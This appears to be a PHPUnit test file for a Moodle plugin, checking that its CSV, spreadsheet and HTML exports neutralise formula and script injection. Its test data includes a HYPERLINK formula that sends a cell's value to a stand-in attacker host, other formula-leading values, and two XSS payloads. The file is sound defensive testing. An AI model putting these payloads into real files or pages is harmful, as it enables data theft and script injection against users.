<?php
// This file is part of Moodle - https://moodle.org/
//
// Moodle is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// Moodle is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with Moodle.  If not, see <https://www.gnu.org/licenses/>.

namespace local_digitalstrategy\local\export;

use PhpOffice\PhpSpreadsheet\Cell\DataType;
use PhpOffice\PhpSpreadsheet\IOFactory;

/**
 * Every export the suite writes: no cell can become a formula in a spreadsheet program, no value
 * can run script in the HTML table, and headings show "&" as "&".
 *
 * @package    local_digitalstrategy
 * @category   test
 * @copyright  2026 digit@l und sozi@l
 * @license    https://www.gnu.org/copyleft/gpl.html GNU GPL v3 or later
 * @covers     \local_digitalstrategy\local\export\safe_export
 * @covers     \local_digitalstrategy\local\export\cell
 * @covers     \local_digitalstrategy\local\export\csv_writer
 * @covers     \local_digitalstrategy\local\export\html_table_writer
 */
#[\PHPUnit\Framework\Attributes\CoversClass(safe_export::class)]
#[\PHPUnit\Framework\Attributes\CoversClass(cell::class)]
#[\PHPUnit\Framework\Attributes\CoversClass(csv_writer::class)]
#[\PHPUnit\Framework\Attributes\CoversClass(html_table_writer::class)]
final class safe_export_test extends \advanced_testcase {
    /**
     * Texts as stored (names of organisations, sessions, people) and as a spreadsheet must show them.
     *
     * @return array<int, array{0: string, 1: string}>
     */
    private static function texts(): array {
        return [
            ['=HYPERLINK("https://evil.example/?d="&A1,"Klick")', '\'=HYPERLINK("https://evil.example/?d="&A1,"Klick")'],
            ['+1', "'+1"],
            ['-2', "'-2"],
            ['@SUM(A1)', "'@SUM(A1)"],
            ["\tTab", "'\tTab"],
            ["\rCR", "'\rCR"],
            [' =1+2', "' =1+2"],
            ['Kita a;=1+2 b,=3+4', 'Kita a;=1+2 b,=3+4'],
            ['Kinder & Jugend "Süd" < 6 \'Öffnung\' 🌱', 'Kinder & Jugend "Süd" < 6 \'Öffnung\' 🌱'],
            ['<script>alert("x")</script>', '<script>alert("x")</script>'],
            ['<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
        ];
    }

    /**
     * A table with every text in every column (headings too; row i begins with text i), and a row of
     * numbers.
     *
     * @return array{0: string[], 1: array[]} headings and rows
     */
    private static function table(): array {
        $texts = array_column(self::texts(), 0);
        $rows = [];
        foreach (array_keys($texts) as $i) {
            $rows[] = array_merge(array_slice($texts, $i), array_slice($texts, 0, $i));
        }
        $rows[] = array_merge([-2, 75.0, 3], array_fill(0, count($texts) - 3, null));
        return [$texts, $rows];
    }

    /**
     * What a program must show in row $row (0: headings) and column $column of self::table().
     *
     * @param int $row
     * @param int $column
     * @param bool $csv in CSV, where a formula character after a separator inside a text is quoted too
     * @return string
     */
    private static function shown(int $row, int $column, bool $csv = false): string {
        $shown = array_column(self::texts(), 1);
        if ($csv) {
            $shown = str_replace('Kita a;=1+2 b,=3+4', "Kita a;'=1+2 b,'=3+4", $shown);
        }
        return $shown[(max(0, $row - 1) + $column) % count($shown)];
    }

    /**
     * The spreadsheet formats.
     *
     * @return array
     */
    public static function spreadsheet_provider(): array {
        return ['XLSX' => ['excel'], 'ODS' => ['ods']];
    }

    /**
     * XLSX and ODS: no cell is a formula, every text shows as stored with its neutralising quote,
     * numbers stay numbers.
     *
     * @dataProvider spreadsheet_provider
     * @param string $format
     */
    #[\PHPUnit\Framework\Attributes\DataProvider('spreadsheet_provider')]
    public function test_no_spreadsheet_cell_is_a_formula_and_each_shows_its_text(string $format): void {
        [$headings, $rows] = self::table();
        $path = (new safe_export())->write('export', $format, $headings, $rows);

        $sheet = IOFactory::load($path)->getActiveSheet();

        $shown = array_column(self::texts(), 1);
        $formulas = 0;
        foreach ($sheet->getRowIterator() as $row) {
            foreach ($row->getCellIterator() as $cell) {
                $formulas += $cell->getDataType() === DataType::TYPE_FORMULA || $cell->isFormula() ? 1 : 0;
            }
        }
        $this->assertSame(0, $formulas);
        $this->assertSame(count($rows) + 1, $sheet->getHighestDataRow());
        for ($r = 1; $r <= count($shown) + 1; $r++) {
            foreach (array_keys($shown) as $c) {
                $expected = self::shown($r - 1, $c);
                $cell = $sheet->getCell([$c + 1, $r]);
                $this->assertContains(
                    $cell->getDataType(),
                    [DataType::TYPE_STRING, DataType::TYPE_INLINE],
                    "row $r column " . ($c + 1)
                );
                $this->assertSame(
                    str_replace("\r", "\n", $expected),
                    str_replace(["\r\n", "\r"], "\n", (string) $cell->getFormattedValue()),
                    "row $r column " . ($c + 1)
                );
            }
        }
        $numbers = count($rows) + 1;
        $this->assertSame(-2, (int) $sheet->getCell([1, $numbers])->getValue());
        $this->assertSame(DataType::TYPE_NUMERIC, $sheet->getCell([1, $numbers])->getDataType());
        $this->assertEquals(75, $sheet->getCell([2, $numbers])->getValue());
        $this->assertSame(DataType::TYPE_NUMERIC, $sheet->getCell([2, $numbers])->getDataType());
    }

    /**
     * CSV: every text field quoted, so whichever separator a program splits at (a German Excel
     * splits at ";"), no field begins with a formula character.
     */
    public function test_no_csv_field_begins_a_formula_whichever_separator_a_program_uses(): void {
        [$headings, $rows] = self::table();
        $path = (new safe_export())->write('export', 'csv', $headings, $rows);
        $csv = file_get_contents($path);

        $this->assertStringStartsWith("\xEF\xBB\xBF", $csv);
        $shown = array_column(self::texts(), 1);
        foreach ([',', ';', "\t"] as $separator) {
            $handle = fopen($path, 'r');
            fseek($handle, 3);
            $lines = [];
            while (($fields = fgetcsv($handle, null, $separator, '"', '')) !== false) {
                $lines[] = $fields;
                // The last line holds numbers: -2 is a number, not a formula.
                foreach (count($lines) <= count($shown) + 1 ? $fields : [] as $field) {
                    $this->assertDoesNotMatchRegularExpression('/^\s*[=+\-@]/', (string) $field, "separator $separator");
                }
            }
            fclose($handle);
            $this->assertCount(count($rows) + 1, $lines);
            if ($separator === ',') {
                foreach ($lines as $r => $fields) {
                    foreach (array_slice($fields, 0, $r <= count($shown) ? count($shown) : 0) as $c => $field) {
                        $this->assertSame(self::shown($r, $c, true), $field);
                    }
                }
                $this->assertSame(['-2', '75', '3'], array_slice($lines[count($rows)], 0, 3));
            }
        }
    }

    /**
     * HTML table: every value and heading is text, nothing runs, "&" shows as "&".
     */
    public function test_the_html_table_shows_every_value_as_text_and_runs_nothing(): void {
        [$headings, $rows] = self::table();
        $path = (new safe_export())->write('export', 'html', $headings, $rows);
        $html = file_get_contents($path);

        $this->assertStringNotContainsStringIgnoringCase('<script', $html);
        $this->assertStringNotContainsStringIgnoringCase('<img', $html);
        $this->assertStringNotContainsString('&amp;amp;', $html);
        $this->assertStringContainsString('Kinder &amp; Jugend', $html);
        $dom = new \DOMDocument();
        $dom->loadHTML($html, LIBXML_NOERROR);
        $this->assertSame(0, $dom->getElementsByTagName('script')->length);
        $this->assertSame(0, $dom->getElementsByTagName('img')->length);
        $shown = array_column(self::texts(), 1);
        $headers = array_map(fn($th) => $th->textContent, iterator_to_array($dom->getElementsByTagName('th')));
        $this->assertSame(str_replace("\r", "\n", $shown), str_replace(["\r\n", "\r"], "\n", $headers));
        $cells = array_map(fn($td) => $td->textContent, iterator_to_array($dom->getElementsByTagName('td')));
        foreach (array_slice($cells, 0, count($shown) * count($shown)) as $i => $text) {
            $expected = self::shown(intdiv($i, count($shown)) + 1, $i % count($shown));
            $this->assertSame(str_replace("\r", "\n", $expected), str_replace(["\r\n", "\r"], "\n", $text));
        }
    }

    /**
     * PDF and JSON write too (PDF lays cells out as HTML: they arrive escaped); a format the site
     * does not offer is refused.
     */
    public function test_other_enabled_formats_write_and_an_unknown_format_is_refused(): void {
        [$headings, $rows] = self::table();
        $this->assertStringStartsWith('%PDF', file_get_contents((new safe_export())->write('export', 'pdf', $headings, $rows)));
        $json = json_decode(file_get_contents((new safe_export())->write('export', 'json', $headings, $rows)), true);
        $this->assertCount(count($rows), $json[0]);

        $this->expectException(\invalid_parameter_exception::class);
        (new safe_export())->write('export', 'nosuchformat', $headings, $rows);
    }
}
